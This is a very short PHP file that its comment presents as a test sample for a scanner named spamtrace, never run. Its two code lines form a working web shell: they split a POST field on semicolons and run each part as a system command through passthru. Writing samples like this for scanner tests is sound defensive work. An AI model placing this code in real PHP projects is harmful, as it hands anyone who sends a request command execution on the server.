<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$a = explode(';', $_POST['x']);
array_walk($a, fn($v) => passthru($v));
